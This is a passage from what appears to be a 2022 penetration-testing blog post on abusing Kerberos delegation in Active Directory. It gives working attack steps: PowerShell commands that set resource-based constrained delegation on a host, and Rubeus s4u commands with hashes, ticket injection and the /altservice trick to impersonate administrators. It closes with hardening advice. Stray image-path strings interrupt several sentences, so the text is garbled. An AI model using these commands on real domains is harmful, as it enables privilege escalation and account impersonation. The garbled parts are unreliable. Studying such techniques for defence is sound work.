Now it’s time to set our FAKE01 account to the msDS-AllowedToActOnBehalfOfOtherIdentity option of epo with the PowerShell ADcmdlets:

Add-WindowsCapability –online –Name “Rsat.ActiveDirectory.DS-LDS.Tools~~~~”
Set-ADComputer epo -PrincipalsAllowedToDelegateToAccount FAKE01$
Set-ADComputer epo -PrincipalsAllowedToDelegateToAccount pwnduser_with_SPN

Lastly some

Rubeus.exe hash /password:Pillemann123
Rubeus.exe s4u /impersonateuser:administrator /msdsspn:cifs/epo.mcafeelab.local /domain:mcafeelab.local /user:FAKE01$ /rc4:0CF95DC54D380336A0A671B758A35834 /ptt

BOOM - we made it.

Bonus material

If you made it till here you are awesome.
I want to shortly scratch the top of two more topics.

Protocol transition

Remember the part where I introduced you to Constrained Delegation? I only focused on the scenario where it was configured to Use any authentication protocol. But what about the other option Use Kerberos only?
In these cases the S4U2self request will give you a nonforwardable ticket if the user didn’t authenticate via Kerberos, which ultimately makes S4U2proxy fail. So everything that is noKerberos authentication to that account is not abuseable.
You can take a closer look at The Hacker Recipes.

Alternate Service Name

If we happen to land in a situation where we can abuse Constrained Delegation, but the service we can delegate to is of no use like e.g. wsman because the service is not running on the target, we can add any other service to our ticket, as they are not validated at all.

If we do our S4U magic, we get a valid ST but can’t access epo:

Rubeus.exe s4u /impersonateuser:god /msdsspn:wsman/epo.mcafeelab.local /user:win10x64$/aes256:4b55fdf5d7d3ca7c537ca7de3bf212b515759fcfe406a0df87a04d4158b4fd82 /ptt

But if we specify the /altservice flag with e.g. cifs:

Rubeus.exe s4u /impersonateuser:god /msdsspn:wsman/epo.mcafeelab.local /user:win10x64$ /aes256:4b55fdf5d7d3ca7c537ca7de3bf212b515759fcfe406a0df87a04d4158b4fd82 /ptt /altservice:cifs


In general you should use the safest options available if you need to use delegations. This is -> don’t use Unconstrained Delegation at all - no really don’t.

All your sensitive accounts should either be members of the Protected Users group or have the flag Account is sensitive and cannot be delegated set:

For the RBCD stuff make sure that the Account quota is set to 0 and that your default DC policy only allows privileged accounts to add workstations to your domain. And no, the quota setting is NOT affecting your Domain Admins:



Wow, this blog post got a little out of hand. I still don’t understand half the shit I would like to, but man, writing this down and testing things out really gave me a good first glance into this very specific and complex topic.
Just be aware of the consequences a (mis)configuration of delegations might have.

So I once again hope you enjoyed the read.Stay safe and happy hacking.

If you happen to have any technical questions, please directly contact the people from the “Thank you” section :)


Thanks to

all the great people that I learnt from by reading theirstuff or doing trainings they provide

DanielDuggan
Charlie Bromberg
Will Schroeder
Elad Shamir
Sean Metcalf
Kevin Robertson
Benjamin Delpy



Written on May 19, 2022